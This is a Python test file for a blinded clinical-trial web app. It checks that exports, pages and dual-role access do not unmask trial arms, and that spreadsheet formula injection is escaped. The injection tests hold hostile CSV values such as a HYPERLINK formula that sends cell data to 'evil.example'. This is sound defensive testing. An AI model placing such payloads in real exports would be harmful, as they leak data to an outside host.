"""Blinding under attack (issue 14): one test per attack, each written as the person inside the trial would try it.

The attacks, and what stops them (docs/design.md section 5):
- the statistician's pre-lock export names the masked arms through columns filled for one arm only (draft edits);
- a spreadsheet runs a case code or a reason as a formula;
- a person who holds two roles (expert + statistician/coordinator, unassisted reader + statistician) reads their own
  tasks' arms or the drafts of cases on their worklist from the export, the analysis, the drafts page or the audit log;
- the retrieval baseline passes public IU reports through verbatim ("XXXX" tokens, findable in the public bank);
- formatting (Markdown, headers, bullets, case, whitespace) tells an edited draft from a report written unaided;
- the expert's pages show the case code, which carries the center.
"""
from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter

import numpy as np
import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient
from scipy import stats

from analysis.export import TABLES_WITHHELD_BEFORE_LOCK, WITHHELD_BEFORE_LOCK, build_export
from analysis.simulation import SimulationParams, simulate_trial
from core.errors import InvalidInput
from inference.models import Draft
from inference.reportbank import load_iu_bank
from rating import selectors as rating_selectors
from rating import services as rating_services
from rating.selectors import normalise_text
from tests.factories.imaging import add_image
from tests.factories.trial import PASSWORD, add_cases, make_trial
from tests.rating.arena_support import arena_trial, tasks_of
from trial import services
from trial.models import Case, Membership

pytestmark = pytest.mark.django_db

P_MIN = 1e-3  # a column "separates" the arms when a test between X and Y gives p below this
# Outcomes differ between arms by design; everything else in the pre-lock export must not.
OUTCOMES = {
    "reads": re.compile(r"^(active_seconds|wall_seconds|finding_.+|confidence_.+)$"),
    "ratings": re.compile(r"^(preference|quality_a|quality_b)$"),
    "allocations": re.compile(r"^$"),
}
ARM_COLUMN = {"reads": "arm", "ratings": "arm_a", "allocations": "arm"}
# The randomised units themselves: paired-by-case randomises readers, so each reader is in one arm by design (the
# allocations table says which, masked).
UNITS = {("reads", "reader"), ("allocations", "unit"),
         # which reader wrote report A / B: readers are nested in arms, so this is the masked arm_a / arm_b again
         ("ratings", "reader_a"), ("ratings", "reader_b")}
# Baseline attributes of the randomised unit (a reader's experience): compared once per reader, not once per read,
# or a chance imbalance of four readers would count as hundreds of independent observations.
PER_READER = {("reads", "reader_experience")}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# -- 1. the pre-lock export ---------------------------------------------------------------------------------
def _separation_p(values_x: list, values_y: list) -> dict[str, float]:
    """p-values of: filled share (Fisher), and the distribution of the filled values (Mann-Whitney on numbers,
    chi-square on categories, Mann-Whitney on the rank of text values)."""
    out = {}
    fx, fy = [v != "" for v in values_x], [v != "" for v in values_y]
    table = [[sum(fx), len(fx) - sum(fx)], [sum(fy), len(fy) - sum(fy)]]
    out["filled"] = float(stats.fisher_exact(table)[1])
    vx, vy = [v for v in values_x if v != ""], [v for v in values_y if v != ""]
    if len(vx) < 5 or len(vy) < 5:
        return out
    try:
        nx, ny = [float(v) for v in vx], [float(v) for v in vy]
    except (TypeError, ValueError):
        nx = ny = None
    if nx is not None:
        if len(set(nx) | set(ny)) > 1:
            out["distribution"] = float(stats.mannwhitneyu(nx, ny).pvalue)
        return out
    cats = sorted(set(map(str, vx)) | set(map(str, vy)))
    if len(cats) <= 10:
        counts = np.array([[sum(str(v) == c for v in vx) for c in cats], [sum(str(v) == c for v in vy) for c in cats]])
        counts = counts[:, counts.sum(axis=0) > 0]
        if counts.shape[1] > 1:
            out["distribution"] = float(stats.chi2_contingency(counts)[1])
    else:  # ids and codes: their sort order must not follow the arm
        rank = {c: i for i, c in enumerate(cats)}
        out["distribution"] = float(stats.mannwhitneyu([rank[str(v)] for v in vx], [rank[str(v)] for v in vy]).pvalue)
    return out


def test_prelock_export_has_no_column_that_separates_the_masked_arms():
    """Before: draft_edit_distance and n_flipped_findings were filled for every read of one masked arm and none of
    the other (p ~ 1e-70), and the data dictionary called them AI-arm columns."""
    # Four readers per center: reader allocation uses blocks of 2 and 4 per center, so every center has a reader in
    # each arm whatever the secret draws. With two per center a block of 4 could put both in one arm, leaving that
    # arm's reads there without a reader ("todo"): reads.status then differed between X and Y in some runs
    # (allocation, not arm identity; the coordinator's outstanding-work check lists such reads).
    # No true effect: the simulation stamps each reader's reads on that reader's own clock advanced by the simulated
    # reading times, so with the default 18% faster AI reads opened_at / submitted_at carried the reading-time
    # outcome (wall_seconds, an outcome column) and separated X from Y in some allocations (p = 0.0008 in CI).
    sim = simulate_trial(SimulationParams(code="NEUTRAL", cases=40, readers=8, centers=2, experts=2, seed=3,
                                          lock=False, quality_shift=0.0, time_ratio=1.0))
    export = build_export(sim["trial"])
    assert all(r["status"] == "done" for r in export.tables["reads"])
    checked = []
    for table, arm_col in ARM_COLUMN.items():
        rows = export.tables[table]
        assert rows, table
        arms = {r[arm_col] for r in rows}
        assert arms == {"X", "Y"}, (table, arms)
        for col in rows[0]:
            if col in ("arm", "arm_a", "arm_b") or OUTCOMES[table].match(col) or (table, col) in UNITS:
                continue
            if (table, col) in PER_READER:
                per_reader = {(r["reader"], r[arm_col]): r[col] for r in rows}
                px = [v for (_who, arm), v in per_reader.items() if arm == "X"]
                py = [v for (_who, arm), v in per_reader.items() if arm == "Y"]
            else:
                px = [r[col] for r in rows if r[arm_col] == "X"]
                py = [r[col] for r in rows if r[arm_col] == "Y"]
            for how, p in _separation_p(px, py).items():
                assert p > P_MIN, (f"{table}.{col} ({how}) separates X from Y before lock (p={p:.2g}); "
                                   f"X: {Counter(map(str, px)).most_common(4)}, "
                                   f"Y: {Counter(map(str, py)).most_common(4)}")
            checked.append(f"{table}.{col}")
    assert {"reads.read_id", "reads.status", "reads.case_code", "ratings.rating_id", "ratings.expert",
            "reads.opened_at", "reads.submitted_at", "ratings.opened_at", "ratings.submitted_at"} <= set(checked)
    # Tables without an arm: drafts exist for every enrolled case, whatever the arm.
    enrolled = {r["case_code"] for r in export.tables["cases"] if r["enrolled"]}
    assert {r["case_code"] for r in export.tables["drafts"]} == enrolled
    # The withheld columns are gone, listed in the manifest, and the dictionary does not describe them.
    for table, cols in WITHHELD_BEFORE_LOCK.items():
        assert not set(cols) & set(export.tables[table][0]), table
        assert export.manifest["withheld_until_lock"][table] == list(cols)
    described = {(d["table"], d["column"]) for d in export.dictionary}
    assert not any((t, c) in described for t, cols in WITHHELD_BEFORE_LOCK.items() for c in cols)
    text = " ".join(d["description"] for d in export.dictionary).lower()
    assert "ai arm" not in text and "ai-arm" not in text and "assisted" not in text


def test_draft_columns_come_back_after_lock():
    sim = simulate_trial(SimulationParams(code="AFTERLOCK", cases=6, readers=4, centers=2, experts=2, seed=5,
                                          lock=True))
    export = build_export(sim["trial"])
    reads = export.tables["reads"]
    assert {"draft_edit_distance", "n_flipped_findings"} <= set(reads[0])
    assert export.manifest["withheld_until_lock"] == {}
    filled = {r["arm"] for r in reads if r["draft_edit_distance"] != ""}
    assert filled == {"ai_assisted"}  # named after lock, as the dictionary says


def test_prelock_export_holds_no_withheld_table_nor_any_arena_judgement_or_amendment():
    """The whole tables withheld before lock (TABLES_WITHHELD_BEFORE_LOCK) are absent, undescribed and listed; an
    arena judgement and its amendment (which name the model versions through task_id) leave no trace: no version
    name, reason or comment anywhere in the tables, the manifest, the dictionary or the files."""
    t = arena_trial(code="BLARENA", versions=2, cases=1, experts=2, panel=2)
    add_image(t["cases"][0])
    rating_services.create_arena_tasks(actor=t["coordinator"], trial=t["trial"])
    task = tasks_of(t["experts"][0])[0]
    user = t["experts"][0].user
    rating_services.submit_arena_task(user, task, {"preference": "A", "comment": "zzfirstcomment"})
    rating_services.amend_arena_task(actor=user, task=task, answer={"preference": "B", "comment": "zzamendedcomment"},
                                     reason="zzamendreason")
    export = build_export(t["trial"])
    assert export.manifest["tables_withheld_until_lock"] == list(TABLES_WITHHELD_BEFORE_LOCK)
    assert {"arena", "arena_amendments"} <= set(TABLES_WITHHELD_BEFORE_LOCK)
    assert not set(TABLES_WITHHELD_BEFORE_LOCK) & set(export.tables)
    assert not set(TABLES_WITHHELD_BEFORE_LOCK) & {d["table"] for d in export.dictionary}
    text = json.dumps([export.tables, export.manifest, export.dictionary, export.files], default=str)
    for secret in ("zzfirstcomment", "zzamendedcomment", "zzamendreason", task.public_id,
                   *(mv.name for mv in t["versions"])):
        assert secret not in text, secret


# -- 2. CSV formula injection and case codes ----------------------------------------------------------------
def test_export_cells_cannot_run_as_spreadsheet_formulas():
    """Before: a case code or exclusion reason starting with = + - @ was written raw."""
    t = make_trial(code="CSVINJ", experts=1, status="reading")
    center = t["centers"][0]
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR"]
    for i, code in enumerate(hostile):  # written around the service, as an old database or another path might
        Case.objects.create(trial=t["trial"], center=center, code=f"{code}{i}", exclusion_reason=code)
    export = build_export(t["trial"])
    seen = 0
    for name in export.tables:
        for row in csv.reader(io.StringIO(export.csv_text(name), newline="")):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    float(cell)  # only plain numbers may start with a sign
                seen += cell.startswith("'")
    assert seen >= 2 * len(hostile)  # each hostile code and reason is there, escaped


def test_case_and_center_codes_are_slugs():
    """Before: add_case accepted '=HYPERLINK(...)' as a case code."""
    t = make_trial(code="SLUG", experts=1, status="reading")
    for bad in ['=HYPERLINK("http://evil.example")', "+1", "@x", "-x", "a b", "x\ty"]:
        with pytest.raises(InvalidInput):
            services.add_case(t["coordinator"], t["trial"], center=t["centers"][0], code=bad)
    assert services.add_case(t["coordinator"], t["trial"], center=t["centers"][0], code="C1-2_x").code == "C1-2_x"
    fresh = make_trial(code="SLUG2", experts=1, status="setup")
    with pytest.raises(InvalidInput):
        services.add_center(fresh["coordinator"], fresh["trial"], code="=c", name="x")


# -- 3. one person, two roles (memberships written around the services) -------------------------------------
def _second_role(world, membership: Membership, role: str) -> Client:
    Membership.objects.create(user=membership.user, trial=world["trial"], role=role)
    c = Client()
    assert c.login(username=membership.user.username, password=PASSWORD)
    return c


def _api(user) -> APIClient:
    api = APIClient()
    api.force_authenticate(type(user).objects.get(pk=user.pk))  # fresh: no cached roles
    return api


@pytest.mark.requirement("BLD-1")
def test_expert_who_is_also_statistician_gets_no_export_or_analysis(world):
    """Before: the analysis page, runs API and run files answered 200, and the export in them had the expert's own
    tasks (rating_id, case, expert code) with their masked A/B arms."""
    expert = world["expert"]
    c = _second_role(world, expert, "statistician")
    code, run = world["trial"].code, world["run"]
    assert c.get(reverse("analysis:page", args=[code])).status_code == 403
    assert c.post(reverse("analysis:page", args=[code])).status_code == 403
    assert c.get(reverse("analysis:run_status", args=[code, run.pk])).status_code == 403
    assert c.get(reverse("analysis:file", args=[code, run.pk, "report/report.html"])).status_code == 403
    api = _api(expert.user)
    assert api.get(reverse("analysis-run-list", args=[code])).status_code == 403
    assert api.post(reverse("analysis-run-list", args=[code])).status_code == 403
    # The single-role statistician still gets them.
    stat = Client()
    assert stat.login(username=world["statistician"].user.username, password=PASSWORD)
    assert stat.get(reverse("analysis:page", args=[code])).status_code == 200


@pytest.mark.requirement("BLD-1")
def test_expert_who_is_also_coordinator_sees_no_drafts_audit_or_arms(world):
    """Before: the drafts page showed the draft of every case on the expert's worklist, the audit log the reads'
    arms and the ratings' A/B reads, and the trial page and API every reader's arm."""
    expert = world["expert"]
    c = _second_role(world, expert, "coordinator")
    code = world["trial"].code
    assert c.get(reverse("inference:drafts", args=[code])).status_code == 403
    assert c.get(reverse("trial:audit", args=[code])).status_code == 403
    assert c.get(reverse("trial:allocations", args=[code])).status_code == 403
    page = c.get(reverse("trial:detail", args=[code]))
    assert page.status_code == 200
    html = page.content.decode()
    assert "ai_assisted</td>" not in html and "unassisted</td>" not in html
    api = _api(expert.user)
    members = api.get(reverse("member-list", args=[code])).json()
    rows = members["results"] if isinstance(members, dict) else members
    assert rows and all(m["arm"] is None for m in rows)
    assert api.get(reverse("allocation-list", args=[code])).status_code == 403


def test_unassisted_reader_who_is_also_statistician_gets_no_model_probabilities(world):
    """Before: the run files (export with drafts.csv, results with the model's accuracy) answered 200 while cases
    were still on the reader's worklist."""
    reader = world["un_reader"]
    c = _second_role(world, reader, "statistician")
    code, run = world["trial"].code, world["run"]
    assert c.get(reverse("analysis:page", args=[code])).status_code == 403
    assert c.get(reverse("analysis:file", args=[code, run.pk, "report/results.json"])).status_code == 403
    assert _api(reader.user).get(reverse("analysis-run-detail", args=[code, run.pk])).status_code == 403
    # Their reading page still works and shows no draft.
    read = world["read"]
    page = c.get(reverse("reading:read", args=[code, read.public_id]))
    assert page.status_code == 200 and "Zebra-striped sentinel" not in page.content.decode()


def test_the_guard_lifts_at_lock(world):
    from trial.blinding import is_blinded_participant
    from trial.models import Trial

    expert = world["expert"]
    Membership.objects.create(user=expert.user, trial=world["trial"], role="statistician")
    trial = Trial.objects.get(pk=world["trial"].pk)
    assert is_blinded_participant(expert.user, trial)
    trial.status = "locked"  # in memory only
    assert not is_blinded_participant(expert.user, trial)


# -- 4. public report text ------------------------------------------------------------------------------------
def test_the_iu_bank_carries_no_redaction_tokens():
    """Before: 1855 of 3955 IU reports carried "XXXX", passed verbatim into drafts and shown as "xxxx"."""
    bank = load_iu_bank()
    assert len(bank) == 3955
    assert not [e.id for e in bank.entries if re.search("XXX", e.findings + e.impression, re.I)]
    # And the expert's view drops any that reach it by another path (an older draft, a pasted text).
    assert normalise_text("Heart size is normal. The XXXX are intact. No pleural effusion.") == [
        "Heart size is normal.", "No pleural effusion."]


def test_retrieval_baseline_is_not_drafted_without_the_trial_setting(monkeypatch):
    """Before: any trial's AI arm defaulted to the retrieval baseline, whose drafts are public IU reports that a
    lookup in the bank identifies."""
    sent = []
    monkeypatch.setattr("inference.services.send_draft_task", lambda pk: sent.append(pk) or True)
    t = make_trial(code="NORETR", experts=1, allow_retrieval_baseline=False)
    assert not t["trial"].allow_retrieval_baseline
    cases = add_cases(t, 2)
    drafts = list(Draft.objects.filter(case__in=cases))
    assert drafts and all(d.status == Draft.Status.FAILED and "allow_retrieval_baseline" in d.error for d in drafts)
    assert sent == []
    # The runner refuses too (the setting turned off after queueing).
    from inference.runner import run_draft

    ok = make_trial(code="YESRETR", experts=1)
    case = add_cases(ok, 1)[0]
    ok["trial"].allow_retrieval_baseline = False
    ok["trial"].save(update_fields=["allow_retrieval_baseline"])
    draft = Draft.objects.get(case=case)
    assert run_draft(None, draft.pk) == "failed"
    draft.refresh_from_db()
    assert draft.status == Draft.Status.FAILED and "allow_retrieval_baseline" in draft.error


def test_formatting_does_not_tell_an_edited_draft_from_a_written_report():
    """Before: Markdown emphasis, '##' headings, header-only lines, 'Findings and impression:', inline '2)' and
    semicolons survived normalisation, so a draft's formatting showed through."""
    plain = ["Heart size is normal.", "No pleural effusion."]
    styles = [
        "Heart size is normal. No pleural effusion.",
        "**FINDINGS:** Heart size is normal. No pleural effusion.",
        "## Findings\nHeart size is normal.\nNo pleural effusion.",
        "FINDINGS\n- Heart size is normal\n- No pleural effusion",
        "Findings and impression: heart size is normal; no pleural effusion.",
        "*Heart size is normal.*  _No pleural effusion._",
        "1) Heart size is normal 2) No pleural effusion",
        "IMPRESSION - heart size is NORMAL.   no pleural effusion",
        "Report:\n\u2022 Heart size is normal.\n\u2022 No pleural effusion.",
        "<b>Heart size is normal.</b> No pleural effusion.",
        "__Findings__\n* Heart size is normal\n* No pleural effusion",
        "HEART SIZE IS NORMAL.\n\n\nNO PLEURAL EFFUSION",
    ]
    for s in styles:
        assert normalise_text(s) == plain, s


# -- 5. the case code on the expert's pages --------------------------------------------------------------------
def test_expert_pages_and_api_show_an_opaque_task_label_not_the_case_code(world):
    """Before: the worklist, the task page (title and heading) and the API carried the case code, whose prefix is
    the center."""
    expert, rating = world["expert"], world["rating"]
    code = world["trial"].code
    c = Client()
    assert c.login(username=expert.user.username, password=PASSWORD)
    case_code = rating.case.code
    api = _api(expert.user)
    wl = api.get(reverse("rating-worklist", args=[code])).json()
    task = api.get(reverse("rating-task", args=[code, rating.public_id])).json()
    pages = [c.get(reverse("rating:worklist", args=[code])),
             c.get(reverse("rating:task", args=[code, rating.public_id]))]
    bodies = [*(p.content.decode() for p in pages), str(wl), str(task)]
    for body in bodies:
        assert case_code not in body
    label = rating_selectors.task_label(rating)
    assert task["label"] == label and wl["tasks"][0]["label"] == label
    assert re.fullmatch(r"T-[0-9A-F]{8}", label) and "case" not in task


@pytest.mark.requirement("BLD-1")
def test_reader_or_expert_who_is_also_coordinator_gets_no_audit_viewer_export_or_verify(world):
    """Issue 18: the audit viewer's detail, CSV export and verify button show reads' arms and ratings' A/B reads like
    the log itself; a person who reads or rates gets none of them before lock. The access review (roles, grants,
    logins) stays open to them, and names no arm."""
    code = world["trial"].code
    entry = world["audit_entry"]
    for membership in (world["expert"], world["un_reader"]):
        c = _second_role(world, membership, "coordinator")
        assert c.get(reverse("trial:audit", args=[code])).status_code == 403
        assert c.get(reverse("trial:audit", args=[code]), {"action": "enrol"}).status_code == 403
        assert c.get(reverse("trial:audit_entry", args=[code, entry.pk])).status_code == 403
        assert c.get(reverse("trial:audit_export", args=[code])).status_code == 403
        assert c.post(reverse("trial:audit_verify", args=[code])).status_code == 403
        review = c.get(reverse("trial:access_review", args=[code]))
        assert review.status_code == 200
        export = c.get(reverse("trial:access_review_export", args=[code]))
        body = review.content.decode() + b"".join(export.streaming_content).decode()
        for arm in world["trial"].arms.all():
            assert arm.code not in body and arm.name not in body
        Membership.objects.filter(user=membership.user, trial=world["trial"], role="coordinator").delete()


def test_after_lock_the_audit_viewer_opens_to_a_former_participant(world):
    """Blinding ends at lock (trial/blinding.py): the same person then sees the log, the entries and the export."""
    code = world["trial"].code
    c = _second_role(world, world["expert"], "coordinator")
    type(world["trial"]).objects.filter(pk=world["trial"].pk).update(status="locked")
    assert c.get(reverse("trial:audit", args=[code])).status_code == 200
    assert c.get(reverse("trial:audit_entry", args=[code, world["audit_entry"].pk])).status_code == 200
    assert c.get(reverse("trial:audit_export", args=[code])).status_code == 200
